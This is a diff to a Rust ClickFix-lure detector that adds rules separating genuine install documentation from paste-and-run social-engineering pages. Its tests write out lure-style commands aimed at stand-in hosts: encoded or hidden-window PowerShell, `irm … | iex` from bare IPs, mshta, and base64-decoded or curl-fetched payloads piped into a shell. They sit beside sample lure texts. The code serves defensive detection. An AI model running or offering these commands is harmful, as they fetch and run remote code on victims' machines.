@@ -13,6 +13,7 @@
 //!   trick. A developer page with a copy button for `curl … | sh` or `npm install` has none of
 //!   these and stays silent.
 
+use super::domain::{host_of, is_user_content, registrable};
 use super::lexicon::{lexicon, Cat, Hit};
 use super::normalize::{is_invisible, normalize};
 use super::weights::{
@@ -29,6 +30,10 @@ pub const SHOWN_MAX: usize = 120;
 const PAD_BEFORE_COMMENT: usize = 20;
 /// Whitespace between two parts of a copied text that hides the first part whatever follows.
 const PAD_ANYWHERE: usize = 80;
+/// Bytes from a condition word ("if", "si") to the problem it makes hypothetical.
+const CONDITION_REACH: usize = 120;
+/// Bytes between an infection word and the reader's machine it is claimed about.
+const CLAIM_REACH: usize = 90;
 
 /// Where a command runs: Windows run-dialog instructions only make a Windows command ClickFix.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -136,6 +141,14 @@ pub struct Command {
     pub shown: String,
     /// What the person would see instead: the comment after the command (defanged, short).
     pub comment: String,
+    /// The command before any padding, flattened: compared with the page's own text.
+    flat: String,
+    /// Every address it fetches is how installers are published: https, a host name, and a
+    /// named `.ps1` script or `.msi` package (or the site's root, `get.example.sh`).
+    published: bool,
+    /// The registrable domains it fetches from, when every address is `https://` to a host
+    /// name (empty otherwise).
+    https_sites: Vec<String>,
 }
 
 impl Command {
@@ -149,6 +162,34 @@ impl Command {
     /// A Windows command worth warning about next to run-dialog steps alone. A bare `cmd /c` or
     /// `rundll32` that fetches nothing is what IT help articles give for the Run box
     /// (`cmd /c ipconfig /flushdns`, `rundll32 sysdm.cpl,EditEnvironmentVariables`).
+    /// Only shapes that install docs and tutorials give: `irm … | iex`, a flagged `powershell`,
+    /// `msiexec /i https://…` for PowerShell (Admin) or the Run box; `curl | sh`,
+    /// `curl -LO … && chmod +x` and an `osascript` that runs no shell and asks for no password
+    /// for Terminal. Anything that hides a window, encodes the script, decodes base64 into a
+    /// shell or goes through mshta, regsvr32, certutil … is never documentation.
+    pub fn install_like(&self, page_site: &str) -> bool {
+        (self.published || self.fetches_from_site(page_site))
+            && self.shapes.iter().all(|s| match s {
+                Shape::PowerShellDownload
+                | Shape::PowerShell
+                | Shape::MsiexecUrl
+                | Shape::PipeToShell
+                | Shape::DownloadExec => true,
+                Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
+                    .iter()
+                    .any(|w| has(&self.flat, w)),
+                _ => false,
+            })
+    }
+
+    /// Fetches only from the page's own site over https: a project's docs serve its installer
+    /// under any path (`irm https://example.com/win | iex` on example.com).
+    fn fetches_from_site(&self, page_site: &str) -> bool {
+        !page_site.is_empty()
+            && !self.https_sites.is_empty()
+            && self.https_sites.iter().all(|s| s == page_site)
+    }
+
     pub fn windows_payload(&self) -> bool {
         self.shapes.iter().any(|s| {
             s.platform() == Platform::Windows
@@ -484,6 +525,30 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
     (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT).then_some((before, after))
 }
 
+/// Whether every address in `flat` is one an install page publishes: `https://` to a host name
+/// (not a bare IP); for a Windows command, with no path or a path naming a `.ps1` script or an
+/// `.msi` package. Lures fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
+fn published(flat: &str, windows: bool) -> bool {
+    if has(flat, "http:") || has(flat, "\\\\") || has(flat, "ftp:") {
+        return false;
+    }
+    tokens(flat).iter().all(|t| {
+        let Some(i) = t.find("://") else {
+            return true;
+        };
+        let rest = &t[i + 3..];
+        let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
+        let path = path.split(['?', '#']).next().unwrap_or("");
+        let tld_is_name = host
+            .rsplit('.')
+            .next()
+            .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
+        t[..i].ends_with("https")
+            && tld_is_name
+            && (!windows || path.len() <= 1 || path.ends_with(".ps1") || path.ends_with(".msi"))
+    })
+}
+
 /// Reads the copied text. `None` when it is not a command this module recognises.
 pub fn recognise(raw: &str) -> Option<Command> {
     let mut raw = raw.to_string();
@@ -494,6 +559,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
     if shapes.is_empty() {
         return None;
     }
+    let windows = shapes.iter().any(|s| s.platform() == Platform::Windows);
     let (cmd_part, tail) = padding.unwrap_or((raw.as_str(), ""));
     // The comment after the padding, or a trailing `# …` on one line, is what the person sees.
     let comment = if !tail.is_empty() {
@@ -510,6 +576,25 @@ pub fn recognise(raw: &str) -> Option<Command> {
         comment_pretext,
         shown: defang(cmd_part),
         comment: defang(&comment.chars().take(60).collect::<String>()),
+        flat: flatten(cmd_part),
+        published: published(&flat, windows),
+        https_sites: if published(&flat, false) {
+            tokens(&flat)
+                .iter()
+                .filter(|t| t.contains("://"))
+                .map(|t| {
+                    let host = host_of(t);
+                    // A user-content host is nobody's own site: it never matches the page's.
+                    if is_user_content(&host) {
+                        String::from("-")
+                    } else {
+                        registrable(&host)
+                    }
+                })
+                .collect()
+        } else {
+            Vec::new()
+        },
     })
 }
 
@@ -607,6 +692,10 @@ pub fn defang(raw: &str) -> String {
 pub struct PageHits {
     base: String,
     hits: Vec<Hit>,
+    /// The page's text flattened like a command: finds a command the page shows as it copies it.
+    flat: String,
+    /// The page's registrable domain, when known.
+    site: String,
 }
 
 impl PageHits {
@@ -615,10 +704,13 @@ impl PageHits {
     pub fn new<'a>(parts: impl IntoIterator<Item = &'a str>) -> PageHits {
         let mut base = String::new();
         let mut skel = String::new();
+        let mut flat = String::new();
         for p in parts {
             if p.trim().is_empty() {
                 continue;
             }
+            flat.push(' ');
+            flat.push_str(&flatten(p));
             let n = normalize(p);
             base.push_str(" \n ");
             skel.push_str(" \n ");
@@ -632,11 +724,84 @@ impl PageHits {
             .filter(|h| {
                 matches!(
                     h.cat,
-                    Cat::RunDialog | Cat::PasteStep | Cat::RunTerminal | Cat::VerifyHuman
+                    Cat::RunDialog
+                        | Cat::PasteStep
+                        | Cat::RunTerminal
+                        | Cat::VerifyHuman
+                        | Cat::FixPretext
+                        | Cat::InstallDocs
+                        | Cat::Troubleshooting
+                        | Cat::Conditional
+                        | Cat::Victim
+                        | Cat::Error
+                        | Cat::Infection
+                        | Cat::System
                 )
             })
             .collect();
-        PageHits { base, hits }
+        PageHits {
+            base,
+            hits,
+            flat,
+            site: String::new(),
+        }
+    }
+
+    /// The page's address: a command fetching from the page's own site is how a project's
+    /// docs publish their installer.
+    /// Hosts that serve anyone's content (sites.google.com next to drive.google.com) have no
+    /// site of their own here.
+    pub fn on(mut self, url: &str) -> PageHits {
+        let host = host_of(url);
+        if !is_user_content(&host) {
+            self.site = registrable(&host);
+        }
+        self
+    }
+
+    /// The page shows the command it copies (a code block next to its copy button): what the
+    /// person sees is what they paste. Short commands prove nothing.
+    fn shows(&self, command: &Command) -> bool {
+        command.flat.len() >= 16 && has(&self.flat, &command.flat)
+    }
+
+    /// Install documentation, not a lure: the page documents an installation (or shows the
+    /// command it copies) and dresses it as nothing else: no verification, no error, repair,
+    /// missing update or file to open, no infection or system screen.
+    fn documents_install(&self, command: &Command) -> bool {
+        let framed = self.weight(Cat::InstallDocs) >= 1.0 || self.shows(command);
+        let verify = self.of(Cat::VerifyHuman).next().is_some();
+        framed && !verify && self.story().next().is_none()
+    }
+
+    /// The story a lure tells around its command: a repair, a missing update, a file to open, an
+    /// error, a system screen, or an infection on the reader's machine ("Trojan detected on this
+    /// PC"; "an open-source malware scanner" names a product). Problems set aside are not told.
+    fn story(&self) -> impl Iterator<Item = &Hit> {
+        self.hits.iter().filter(|h| {
+            let told = match h.cat {
+                Cat::FixPretext | Cat::Error | Cat::System => true,
+                Cat::Infection => self
+                    .of(Cat::Victim)
+                    .any(|v| v.start.max(h.start) - v.end.min(h.end) <= CLAIM_REACH),
+                _ => false,
+            };
+            told && !self.aside(h)
+        })
+    }
+
+    /// A problem the page describes rather than claims: under a troubleshooting heading, or
+    /// after "if" / "si" / "wenn" in its own sentence ("if the command is not working, …").
+    fn aside(&self, h: &Hit) -> bool {
+        let under_heading = self.of(Cat::Troubleshooting).any(|t| t.end <= h.start);
+        under_heading
+            || self.of(Cat::Conditional).any(|c| {
+                c.end <= h.start
+                    && h.start - c.end <= CONDITION_REACH
+                    && self.base.get(c.end..h.start).is_some_and(|between| {
+                        !between.contains(['.', '!', '?', '\n', '。', '！', '？', ';'])
+                    })
+            })
     }
 
     fn of(&self, cat: Cat) -> impl Iterator<Item = &Hit> {
@@ -765,7 +930,7 @@ pub fn judge(snap: &Snapshot) -> Option<ClickFix> {
     let parts = [snap.title.as_str(), snap.text.as_str()]
         .into_iter()
         .chain(snap.alt_texts.iter().map(String::as_str));
-    assess_command(command, &PageHits::new(parts))
+    assess_command(command, &PageHits::new(parts).on(&snap.url))
 }
 
 fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
@@ -777,11 +942,18 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
         .map(|h| h.weight)
         .fold(0.0f32, f32::max)
         >= 1.0;
-    let windows_run = run_dialog && command.windows_payload();
+    // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
+    // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
+    // are documentation; a lure always adds its story (verify, fix, update, open the file).
+    let docs = command.install_like(&page.site) && page.documents_install(&command);
+    let windows_run = run_dialog && command.windows_payload() && !docs;
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
-    // Terminal"); only a shape no install command has makes them ClickFix.
+    // Terminal"); only a strong shape outside install docs makes them ClickFix. A story does
+    // not make `curl … | sh` one: "How to fix 'command not found': open Terminal, paste" is how
+    // honest how-tos read too.
     let mac_run = terminal
         && paste
+        && !docs
         && command
             .shapes
             .iter()
@@ -1216,6 +1388,153 @@ mod tests {
     }
 
     #[test]
+    fn install_docs_may_send_people_to_powershell_admin() {
+        // Invented install pages: the Run box, Win+X or PowerShell (Admin) with a command docs
+        // give, framed as an installation (or showing what they copy), with no story around it.
+        for (clip, text) in [
+            (
+                "irm https://get.example.test/install.ps1 | iex",
+                "Installation on Windows: press Win + X, choose Terminal (Admin), paste the \
+                 command and press Enter.",
+            ),
+            (
+                "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object \
+                 System.Net.WebClient).DownloadString('https://pkg.example.test/install.ps1'))",
+                "Run the following command in an administrative shell (right-click Start, \
+                 Windows PowerShell (Admin)), paste it and press Enter.",
+            ),
+            (
+                "msiexec /i https://dl.example.test/agent.msi /qn",
+                "Silent install of the agent: open the Run dialog (Win+R), paste this and press \
+                 Enter. Service desk: 555-0142.",
+            ),
+            (
+                "irm https://wren.example.test/install.ps1 | iex",
+                "インストール方法: Win + X を押して ターミナル (管理者) を開き、貼り付けて Enter。",
+            ),
+            (
+                "msiexec /i https://dl.example.test/lark.msi /qn",
+                "Installation silencieuse : ouvrez la boîte de dialogue Exécuter (touche Windows + \
+                 R), collez la commande suivante et appuyez sur Entrée.",
+            ),
+            // A tutorial with no install word shows the exact command its button copies.
+            (
+                "irm https://tutorial.example.test/hello.ps1 | iex",
+                "Lesson 7. Open Windows PowerShell (Admin) from the Win + X menu, paste the \
+                 example and press Enter:\nirm https://tutorial.example.test/hello.ps1 | iex\nCopy",
+            ),
+        ] {
+            assert!(!judged(clip, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn install_docs_may_describe_problems() {
+        // Problems under a troubleshooting heading or after "if" are described, not claimed; a
+        // camera plugin names a camera.
+        let clip = "irm https://get.example.test/install.ps1 | iex";
+        for text in [
+            "Installation. Open Terminal (Admin) with Win + X, paste and press Enter.\n\
+             Troubleshooting\nThe command is not working after install: restart the terminal. \
+             Outdated PowerShell versions are not supported.",
+            "Instalación: abra Terminal (administrador) con Win + X y pegue el comando.\n\
+             Si el comando no funciona, actualice PowerShell.",
+            "Install the virtual camera plugin: press Win + X, choose Terminal (Admin), paste and \
+             press Enter. Then pick it as your camera and microphone in your meeting app.",
+        ] {
+            assert!(!judged(clip, text), "{text}");
+        }
+        // A project's docs serve their installer from their own site under any path; another
+        // site's unnamed path is how lures fetch.
+        let site = |url: &str, clip: &str, text: &str| {
+            assess(clip, &PageHits::new([text]).on(url)).is_some()
+        };
+        let admin = "Install: right-click Start, choose Terminal (Admin), paste and press Enter.";
+        let own = "irm https://toolbox.example/win | iex";
+        assert!(!site("https://docs.toolbox.example/start", own, admin));
+        assert!(site("https://docs.other.example/start", own, admin));
+        assert!(site(
+            "https://sites.google.com/view/x",
+            "irm https://drive.google.com/uc?id=5 | iex",
+            admin
+        ));
+        assert!(site(
+            "https://docs.toolbox.example/start",
+            "irm http://toolbox.example/win | iex",
+            admin
+        ));
+        // An infection named as a product is no story; one claimed about this PC is.
+        assert!(!judged(
+            clip,
+            "SentryScan is an open-source malware scanner for build servers. Installation: press \
+             Win + X, open Terminal (Admin), paste and press Enter."
+        ));
+        assert!(judged(
+            clip,
+            "Trojan:Win32/Agent detected on this PC. Install the removal tool: press Win + R, \
+             paste and press Enter."
+        ));
+        // A condition ends with its sentence; a story before the steps is still a story.
+        for text in [
+            "If you use Windows, install it this way. Your browser is out of date: press Win + X, \
+             choose Terminal (Admin), paste and press Enter.",
+            "Your microphone is not working. Install the fix: press Win + X, choose Terminal \
+             (Admin), paste and press Enter. FAQ",
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_lure_stays_a_lure_with_install_words() {
+        // The same commands with the story a kit tells: a verification, an error to fix, an
+        // update said to be missing, a file to open, an infection.
+        let clip = "irm https://x.example/install.ps1 | iex";
+        for text in [
+            "Install the security update: your browser is out of date. Press Win + X, open \
+             Terminal (Admin), paste and press Enter.",
+            "Verify you are human. To install the check, press Win + R, Ctrl + V, Enter.",
+            "Your microphone is not working. To fix it, install the driver: press Win + X, \
+             choose Terminal (Admin), paste and press Enter.",
+            "Threat detected on this PC. Install the cleaner: press Win + R, paste, press Enter.",
+            "Ihr Browser ist veraltet. Installieren Sie das Update: Windows-Taste + R, einfügen, \
+             Eingabetaste.",
+            "浏览器版本过旧。安装更新：按 Win + R，粘贴并按回车。",
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // Shapes no install page gives stay ClickFix next to install words.
+        let docs = "Installation: press Win + R, paste and press Enter.";
+        for clip in [
+            "powershell -w h -c \"irm https://x.example/install.ps1 | iex\"",
+            "powershell -enc SQBFAFgAIAAoAGkAdwByACkA",
+            "mshta https://x.example/install.hta",
+            "curl.exe -L https://x.example/setup.exe -o %TEMP%\\s.exe & start %TEMP%\\s.exe",
+            // Fetched as no installer is published: plain http, a bare IP, an unnamed path, a
+            // script dressed as text, a share.
+            "irm http://x.example/install.ps1 | iex",
+            "irm https://203.0.113.5/install.ps1 | iex",
+            "irm https://x.example/p | iex",
+            "iex (iwr https://x.example/font-pack.txt -UseBasicParsing)",
+            "msiexec /i https://x.example/update?id=5 /qn",
+            "powershell -c \\\\x.example@SSL\\share\\install.ps1",
+        ] {
+            assert!(judged(clip, docs), "{clip}");
+        }
+        // No framing at all: the run-dialog steps alone still make it ClickFix.
+        assert!(judged(
+            clip,
+            "Hold the Windows key and press R, paste and press Enter."
+        ));
+        // Showing a command is no excuse for a page that also tells a story.
+        assert!(judged(
+            "irm https://x.example/fix.ps1 | iex",
+            "Something went wrong. How to fix: press Win + X, open Terminal (Admin), paste \
+             irm https://x.example/fix.ps1 | iex and press Enter."
+        ));
+    }
+
+    #[test]
     fn mac_variant() {
         let clip = "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash";
         assert!(judged(
@@ -1230,6 +1549,41 @@ mod tests {
             "curl -fsSL https://x.example/i | bash",
             "Open Terminal and paste it, press Return"
         ));
+        // Install docs and tutorials for Terminal: a binary fetched over https and made
+        // executable, an AppleScript one-liner that runs no shell; shown as copied or framed as
+        // an installation.
+        let get = "curl -LO https://dl.example.test/v1/darwin/otter && chmod +x otter && \
+                   sudo mv otter /usr/local/bin/";
+        assert!(!judged(
+            get,
+            &format!("Installation: open Terminal, paste and press Return.\n{get}\nCopy")
+        ));
+        let note = "osascript -e 'display notification \"Hello\" with title \"Demo\"'";
+        assert!(!judged(
+            note,
+            &format!("Tutorial: open Terminal, paste this line and press Return.\n{note}")
+        ));
+        // The same steps with a lure's command or story stay ClickFix.
+        for (clip, text) in [
+            (
+                get,
+                "Safari is out of date. Open Terminal, paste and press Return. Install.",
+            ),
+            (
+                "curl -o /tmp/v http://x.example/v && chmod +x /tmp/v && /tmp/v",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+            (
+                "osascript -e 'do shell script \"curl -s https://x.example/u | sh\"'",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+            (
+                "osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+        ] {
+            assert!(judged(clip, text), "{clip}");
+        }
     }
 
     #[test]
